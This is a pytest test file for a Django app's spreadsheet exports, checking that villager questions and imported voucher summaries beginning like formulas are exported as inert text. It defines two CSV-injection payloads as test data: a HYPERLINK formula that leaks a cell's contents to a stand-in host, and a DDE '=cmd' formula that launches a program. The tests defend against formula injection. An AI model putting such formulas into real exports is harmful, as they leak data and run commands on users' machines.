"""Every Excel and CSV export writes text as text: a villager's question or an imported voucher
summary that starts like a formula (=, +, -, @, tab, carriage return) is never run by a spreadsheet.
XLSX files are read back with openpyxl (value as typed, data type "s", never "f"), text as Excel
shows it (`excel_text`); CSV cells that start like a formula carry OWASP's leading apostrophe."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sanwu.core.readers import read_rows
from sanwu.core.tables import Column, Table, excel_text
from sanwu.disclosure.models import Question
from sanwu.ledger import imports as importer
from sanwu.ledger.models import Voucher
from tests.conftest import response_bytes
from tests.ledger.conftest import book  # noqa: F401  (fixture)

DAXIE = "340828100200"  # 大歇村, 主簿镇 (township_1)
HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&B2,"点击查看答复")'
CALC = "=cmd|' /C calc'!A0"


def cells(xlsx: bytes) -> list[list]:
    """Every cell of the first sheet, as openpyxl reads the file back."""
    return [list(row) for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows()]


def cell_with(xlsx: bytes, value):
    found = [c for row in cells(xlsx) for c in row if c.value == value]
    assert found, f"{value!r} is not a cell of the file"
    return found[0]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def ask_on_the_public_page(text: str) -> Question:
    """An anonymous villager asks through the village's public page (with its CSRF token)."""
    c = Client(enforce_csrf_checks=True)
    token = c.get(f"/v/{DAXIE}/").cookies["csrftoken"].value
    resp = c.post(f"/v/{DAXIE}/ask/", {"text": text, "contact": "", "csrfmiddlewaretoken": token}, REMOTE_ADDR="10.0.0.7")
    assert resp.status_code == 302
    return Question.objects.get()


def test_a_villagers_formula_question_is_text_in_the_townships_export(demo, as_user):
    q = ask_on_the_public_page(HYPERLINK)
    assert q.text == HYPERLINK  # stored as typed (nothing in it is masked)
    town = as_user(demo.township)
    xlsx = town.get("/questions/", {"format": "xlsx"})
    assert xlsx.status_code == 200
    cell = cell_with(xlsx.content, HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix
    assert not [c.coordinate for row in cells(xlsx.content) for c in row if c.data_type == "f"]
    rows = csv_rows(response_bytes(town.get("/questions/", {"format": "csv"})))
    assert "'" + HYPERLINK in rows[1]
    # the outsider's export (another township) does not hold the question at all
    other = response_bytes(as_user(demo.other_township).get("/questions/", {"format": "csv"})).decode()
    assert "HYPERLINK" not in other


def test_an_imported_formula_summary_is_text_in_the_voucher_export(demo, as_user, book):
    data = (
        "日期,凭证号,摘要,科目编码,借方金额,贷方金额\n"
        f"2025-03-05,记-1,{CALC},101,-12.50,\n"
        f"2025-03-05,记-1,{CALC},501,,-12.50\n"
    ).encode()
    importer.import_vouchers(demo.accountant, book, data, "v.csv", post=True)
    assert Voucher.objects.get(book=book).summary == CALC
    acc = as_user(demo.accountant)
    address = reverse("ledger:vouchers", args=[book.code])
    xlsx = acc.get(address, {"format": "xlsx"}).content
    cell = cell_with(xlsx, CALC)
    assert cell.data_type == "s"
    # numbers stay numbers: the red-ink total is a negative amount, not text
    total = cells(xlsx)[1][3]
    assert total.value == Decimal("-12.5") and total.data_type == "n" and total.number_format == "#,##0.00"
    assert cells(xlsx)[1][0].value == dt.datetime(2025, 3, 5)
    rows = csv_rows(response_bytes(acc.get(address, {"format": "csv"})))
    assert rows[1][2] == "'" + CALC and rows[1][3] == "-12.50"
    entries = csv_rows(response_bytes(acc.get(address, {"format": "csv", "detail": "entries"})))
    assert {r[2] for r in entries[1:]} == {"'" + CALC}
    # the outsider (another village's accountant) gets no export of this book
    assert as_user(demo.other_accountant).get(address, {"format": "csv"}).status_code == 404


def test_every_formula_start_is_text_and_numbers_keep_their_type():
    starts = ["=1+1", "+86 139", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A"]
    t = Table("t", [Column("v", "值"), Column("fen", "金额", money=True), Column("n", "数")], [{"v": s, "fen": -150, "n": -3} for s in starts])
    got = cells(t.to_xlsx())[1:]
    assert [(r[0].data_type, r[1].value, r[1].data_type, r[2].value) for r in got] == [("s", Decimal("-1.5"), "n", -3)] * len(starts)
    assert [r[0].value for r in got] == starts  # a carriage return too: written as &#13;
    rows = csv_rows(t.to_csv().encode())[1:]
    assert [r[0] for r in rows] == ["'" + s for s in starts[:-1]] + ["#N/A"]
    assert {(r[1], r[2]) for r in rows} == {("-1.50", "-3")}


def test_the_sheet_is_plain_cells_a_frozen_header_and_column_widths():
    """The file as a spreadsheet opens it: no formula anywhere, the header row bold and frozen, the
    widths of the columns, the formula-like text with Excel's quote prefix."""
    t = Table("导出/二〇二五", [Column("v", "值", width=30), Column("fen", "金额", money=True)], [{"v": CALC, "fen": 1}, {"v": "普通", "fen": None}])
    data = t.to_xlsx()
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "导出_二〇二五" and ws.freeze_panes == "A2" and ws.column_dimensions["A"].width == 30
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb == "FFDDEBF7" and not ws["A2"].font.b
    assert (ws["A2"].value, ws["A2"].quotePrefix, ws["A3"].quotePrefix) == (CALC, True, False)
    assert (ws["B2"].value, ws["B2"].number_format, ws["B3"].value) == (0.01, "#,##0.00", None)


def test_text_that_excel_would_read_as_an_escape_shows_as_it_was():
    """Excel shows "_x0041_" in a cell as "A" (ECMA-376 ST_Xstring); the writer escapes its
    underscore, so the cell shows the text as typed, and an import of the file reads it so too."""
    texts = ["_x0041_", "a_x000D_b", "_x005F_", "__x12ab_x", "_x12_"]
    data = Table("t", [Column("v", "值")], [{"v": s} for s in texts]).to_xlsx()
    raw = [c[0].value for c in cells(data)[1:]]
    assert raw[0] == "_x005F_x0041_" and raw[4] == "_x12_"  # what is in the file
    assert [excel_text(v) for v in raw] == texts  # what Excel shows
    _, rows = read_rows(data, "t.xlsx", {"v": ["值"]})
    assert [r["v"] for _, r in rows] == texts


def test_characters_an_xlsx_cannot_hold_are_dropped_not_a_failed_export():
    t = Table("t", [Column("v", "值")], [{"v": "村部\x00维修\x1b费用\ufffe"}])
    assert cells(t.to_xlsx())[1][0].value == "村部维修费用"


def _as_xlsx_keeps_it(s: str) -> str:
    """What XML 1.0 can hold of `s`: no C0 controls but tab and line breaks, no U+FFFE/U+FFFF (a
    carriage return is kept: it is written as a character reference)."""
    return "".join(ch for ch in s if ch in "\t\n\r" or not (ord(ch) < 0x20 or ch in "\ufffe\uffff"))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40) | st.from_regex(r"\A.{0,5}_x[0-9A-Fa-f]{4}_.{0,5}\Z"), min_size=1, max_size=5))
def test_any_text_reads_back_as_the_same_text_never_a_formula(texts):
    t = Table("t", [Column("v", "值")], [{"v": s} for s in texts])
    ws = load_workbook(io.BytesIO(t.to_xlsx())).active
    for line, s in enumerate(texts, start=2):
        cell = ws.cell(row=line, column=1)
        expected = _as_xlsx_keeps_it(s)
        if expected:
            assert (excel_text(cell.value), cell.data_type) == (expected, "s")
        else:
            assert cell.value is None  # an empty cell
    formula_like = ("=", "+", "-", "@", "\t", "\r")
    assert [r[0] for r in csv_rows(t.to_csv().encode())[1:]] == ["'" + s if s.startswith(formula_like) else s for s in texts]
